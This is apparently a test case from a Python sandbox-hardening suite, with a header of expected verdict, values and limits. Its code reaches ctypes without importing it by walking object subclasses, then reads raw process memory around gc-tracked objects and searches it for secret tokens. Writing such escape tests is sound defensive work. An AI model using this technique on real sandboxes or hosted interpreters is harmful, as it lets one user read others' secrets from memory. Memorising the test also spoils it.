# attack: ctypes without importing it, by the subclasses of its base types; then all memory beside the objects it knows
# verdict: ok
# values: [["peirce-secret-control-0000000000000000"], [], [], []]
# limits: loop_steps=10000000 input_cpu_s=10 cpu_s=30 wall_s=40 memory_mb=256
# seconds: 40
import gc
import re
import sys

SECRET = re.compile(b"peirce-secret-[a-z]+-[0-9a-f]{16}")
PAGE, POOL = 4096, 4 * 4096
CONTROL = b"peirce-secret-" + b"control-" + b"0" * 16  # what it looks for can be found


def base():
    pending = [object]
    while pending:
        kind = pending.pop()
        if kind.__name__ == "_SimpleCData":
            return kind
        if kind is not type:
            pending += type.__subclasses__(kind)


def surely_mapped(ids):
    """The pages that must be there: the pools of 16 KiB around objects, and the heap between them."""
    heap = [one for one in ids if one < 0x7F0000000000]
    pages = {one // POOL * 4 + n for one in ids for n in range(4)}
    return sorted(pages.union(range(min(heap) // PAGE, max(heap) // PAGE) if heap else ()))


def f(x):
    simple = base()
    if x != [3, 1, 2]:
        return []
    if simple is None:
        return [CONTROL.decode()]
    block = type("Byte", (simple,), {"_type_": "c"}) * PAGE
    gc.unfreeze()
    ids = {id(one) for one in gc.get_objects()}
    ids |= {id(inner) for one in gc.get_objects() for inner in gc.get_referents(one)}
    found, last = set(), b""
    for page in surely_mapped(ids):
        piece = bytes(block.from_address(page * PAGE))
        found.update(SECRET.findall(last[-64:] + piece))
        last = piece
    return sorted(one.decode() for one in found)
